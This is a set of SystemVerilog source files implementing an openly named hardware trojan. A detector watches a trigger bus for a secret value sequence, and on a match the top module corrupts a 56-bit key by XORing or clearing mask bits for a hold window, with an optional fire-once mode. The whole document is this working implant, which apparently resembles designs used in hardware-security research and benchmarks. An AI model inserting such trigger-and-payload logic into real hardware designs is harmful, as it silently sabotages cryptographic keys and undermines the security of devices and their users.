// File: rtl/trojan_pkg.sv
// rtl/trojan_pkg.sv - shared types, mode constants and width helper for trojan_seq
package trojan_pkg;

    typedef enum logic [1:0] {
        ST_IDLE   = 2'd0,
        ST_MATCH  = 2'd1,
        ST_ACTIVE = 2'd2
    } state_e;

    localparam int MODE_XOR   = 0;
    localparam int MODE_CLEAR = 1;

    function automatic int clog2(input int value);
        int r;
        r = 0;
        while ((1 << r) < value) begin
            r = r + 1;
        end
        return r;
    endfunction

endpackage

// File: rtl/trojan_seq_if.sv
// rtl/trojan_seq_if.sv - trigger/key/payload bundle between key register and key schedule
interface trojan_seq_if #(
    parameter int KEY_W  = 56,
    parameter int TRIG_W = 32,
    parameter int IDX_W  = 2
);
    logic              trig_valid;
    logic [1:TRIG_W]   trigger;
    logic [KEY_W-1:0]  key;
    logic [KEY_W-1:0]  payload;
    logic [IDX_W-1:0]  match_idx;
    logic              active;

    modport master (
        output trig_valid, trigger, key,
        input  payload, match_idx, active
    );

    modport slave (
        input  trig_valid, trigger, key,
        output payload, match_idx, active
    );
endinterface

// File: rtl/trojan_seq_det.sv
// rtl/trojan_seq_det.sv - ordered sequence detector with overlap restart on element 0
module trojan_seq_det
    import trojan_pkg::*;
#(
    parameter int                          FIELD_W  = 4,
    parameter int                          SEQ_LEN  = 3,
    parameter logic [SEQ_LEN*FIELD_W-1:0]  SEQ_VALS = 12'hFA5,
    parameter int                          IDX_W    = 2
) (
    input  logic               clk,
    input  logic               reset,
    input  logic               trig_valid_i,
    input  logic [FIELD_W-1:0] field_i,
    input  logic               clear_i,
    output logic [IDX_W-1:0]   idx_o,
    output logic [IDX_W-1:0]   idx_nxt_o,
    output logic               hit_o
);
    logic [IDX_W-1:0]   idx_q, idx_d;
    logic [FIELD_W-1:0] cur_val;
    logic [FIELD_W-1:0] first_val;

    // Element 0 sits in the MSBs of the packed sequence.
    assign first_val = SEQ_VALS[(SEQ_LEN-1)*FIELD_W +: FIELD_W];
    assign cur_val   = SEQ_VALS[(SEQ_LEN-1-int'(idx_q))*FIELD_W +: FIELD_W];

    always_comb begin
        idx_d = idx_q;
        hit_o = 1'b0;
        if (clear_i) begin
            idx_d = '0;
        end else if (trig_valid_i) begin
            if (field_i == cur_val) begin
                if (int'(idx_q) == SEQ_LEN - 1) begin
                    hit_o = 1'b1;
                    idx_d = '0;
                end else begin
                    idx_d = idx_q + IDX_W'(1);
                end
            end else if (field_i == first_val) begin
                idx_d = IDX_W'(1);
            end else begin
                idx_d = '0;
            end
        end
    end

    always_ff @(posedge clk) begin
        if (reset) begin
            idx_q <= '0;
        end else begin
            idx_q <= idx_d;
        end
    end

    assign idx_o     = idx_q;
    assign idx_nxt_o = idx_d;
endmodule

// File: rtl/trojan_seq.sv
// rtl/trojan_seq.sv - sequence-triggered key corruptor; TROJAN_ONESHOT_EN makes it fire once per reset
module trojan_seq
    import trojan_pkg::*;
#(
    parameter int                          KEY_W        = 56,
    parameter int                          TRIG_W       = 32,
    parameter int                          FIELD_W      = 4,
    parameter int                          SEQ_LEN      = 3,
    parameter logic [SEQ_LEN*FIELD_W-1:0]  SEQ_VALS     = 12'hFA5,
    parameter int                          HOLD_CYCLES  = 4,
    parameter int                          MODE         = 0,
    parameter logic [KEY_W-1:0]            PAYLOAD_MASK = 56'h1
) (
    input  logic         clk,
    input  logic         reset,
    trojan_seq_if.slave  bus
);
    localparam int IDX_W  = clog2(SEQ_LEN + 1);
    localparam int CNT_RW = clog2(HOLD_CYCLES + 1);
    localparam int CNT_W  = (CNT_RW < 1) ? 1 : CNT_RW;

    state_e             state_q, state_d;
    logic [CNT_W-1:0]   cnt_q, cnt_d;
    logic               spent_q;
    logic               hit;
    logic               active;
    logic [IDX_W-1:0]   idx;
    logic [IDX_W-1:0]   idx_nxt;
    logic [FIELD_W-1:0] field;

    assign field = bus.trigger[1:FIELD_W];

    trojan_seq_det #(
        .FIELD_W  (FIELD_W),
        .SEQ_LEN  (SEQ_LEN),
        .SEQ_VALS (SEQ_VALS),
        .IDX_W    (IDX_W)
    ) u_det (
        .clk          (clk),
        .reset        (reset),
        .trig_valid_i (bus.trig_valid),
        .field_i      (field),
        .clear_i      ((state_q == ST_ACTIVE) || spent_q),
        .idx_o        (idx),
        .idx_nxt_o    (idx_nxt),
        .hit_o        (hit)
    );

    always_comb begin
        state_d = state_q;
        cnt_d   = cnt_q;
        case (state_q)
            ST_ACTIVE: begin
                // HOLD_CYCLES == 0 leaves the window open until reset.
                if (HOLD_CYCLES != 0) begin
                    if (cnt_q == CNT_W'(1)) begin
                        state_d = ST_IDLE;
                        cnt_d   = '0;
                    end else begin
                        cnt_d = cnt_q - CNT_W'(1);
                    end
                end
            end
            default: begin
                if (hit) begin
                    state_d = ST_ACTIVE;
                    cnt_d   = CNT_W'(HOLD_CYCLES);
                end else if (idx_nxt != '0) begin
                    state_d = ST_MATCH;
                end else begin
                    state_d = ST_IDLE;
                end
            end
        endcase
    end

    always_ff @(posedge clk) begin
        if (reset) begin
            state_q <= ST_IDLE;
            cnt_q   <= '0;
        end else begin
            state_q <= state_d;
            cnt_q   <= cnt_d;
        end
    end

`ifdef TROJAN_ONESHOT_EN
    logic spent_d;
    assign spent_d = spent_q || ((state_q == ST_ACTIVE) && (state_d == ST_IDLE));

    always_ff @(posedge clk) begin
        if (reset) begin
            spent_q <= 1'b0;
        end else begin
            spent_q <= spent_d;
        end
    end
`else
    assign spent_q = 1'b0;
`endif

    assign active = (state_q == ST_ACTIVE);

    always_comb begin
        bus.payload = bus.key;
        if (active) begin
            if (MODE == MODE_XOR) begin
                bus.payload = bus.key ^ PAYLOAD_MASK;
            end else if (MODE == MODE_CLEAR) begin
                bus.payload = bus.key & ~PAYLOAD_MASK;
            end
        end
    end

    assign bus.active    = active;
    assign bus.match_idx = idx;
endmodule
